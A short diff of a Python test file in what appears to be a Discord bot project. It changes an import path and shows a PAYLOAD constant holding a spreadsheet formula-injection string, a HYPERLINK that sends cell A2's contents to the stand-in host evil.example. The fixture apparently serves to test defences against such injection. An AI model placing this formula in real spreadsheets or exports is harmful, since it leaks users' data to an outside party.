@@ -9,9 +9,9 @@ from pathlib import Path
 import pytest
 from sqlalchemy import select
 
-from bot.sandbox import DiscordSandbox
 from db.models import AuditLog
 from db.session import Database
+from sandbox import DiscordSandbox
 from tests.cogs.test_roles import sample_zip
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
